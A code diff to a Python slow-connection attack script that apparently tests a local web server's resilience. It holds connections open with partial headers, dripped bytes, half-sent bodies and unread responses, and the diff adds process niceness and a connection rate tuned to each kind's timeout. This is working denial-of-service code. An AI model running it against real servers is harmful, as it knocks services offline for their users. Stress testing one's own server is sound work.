@@ -5,6 +5,7 @@ each line that it reads.
 """
 
 import json
+import os
 import select
 import socket
 import sys
@@ -22,7 +23,8 @@ _UNREAD_PATH = "/static/drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundl
 _UNREAD = f"GET {_UNREAD_PATH} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
 _BIND_ADDRESS_NO_PORT = 24  # from Linux's in.h: choose the port when connecting
 _TURN_S = 0.05
-_NEW_PER_S = 2000
+# It takes processor time of other processes only if there is some left, as if it ran on another machine.
+_NICE = 19
 # A connection sends its next bytes this long after its last ones.
 _DRIP_S = 2.0
 
@@ -34,14 +36,15 @@ class Kind:
     first: bytes
     drip: bytes
     reads: bool = True
+    lasts_s: float = 10.0  # the server closes it after that
 
 
 KINDS = {
     "idle": Kind(b"", b""),
     "half a head": Kind(_HEAD, b""),
     "a head by bytes": Kind(_HEAD, b"X"),
-    "half a body": Kind(_HEAD + b"Content-Length: 1000\r\n\r\nusername=", b"x"),
-    "reads nothing": Kind(_UNREAD, b"", reads=False),
+    "half a body": Kind(_HEAD + b"Content-Length: 1000\r\n\r\nusername=", b"x", lasts_s=30),
+    "reads nothing": Kind(_UNREAD, b"", reads=False, lasts_s=30),
 }
 
 
@@ -55,6 +58,8 @@ class Attack:
         self._count = count
         self._kinds = kinds
         self._sources = _addresses(addresses)
+        # As many as keep all of them open; more would be a flood, which costs a server whatever the clients send.
+        self._new_per_s = count / (sum(kind.lasts_s for kind in kinds) / len(kinds))
         self._poll = select.epoll()
         self._due: deque[tuple[float, socket.socket, Kind]] = deque()
 
@@ -62,7 +67,7 @@ class Attack:
         """Attack until it is over."""
         began, tried = time.monotonic(), 0
         while not is_over():
-            allowed = int((time.monotonic() - began) * _NEW_PER_S) - tried
+            allowed = int((time.monotonic() - began) * self._new_per_s) - tried
             for _ in range(min(self._count - len(self.open), allowed)):
                 tried += 1
                 self._connect(self._kinds[tried % len(self._kinds)])
@@ -126,6 +131,7 @@ def _addresses(count: int) -> Iterator[str]:
 
 def main() -> None:
     port, name, count, addresses = sys.argv[1:]
+    os.nice(_NICE)
     raise_descriptor_limit()
     kinds = list(KINDS.values()) if name == "all" else [KINDS[name]]
     attack = Attack(int(port), kinds=kinds, count=int(count), addresses=int(addresses))
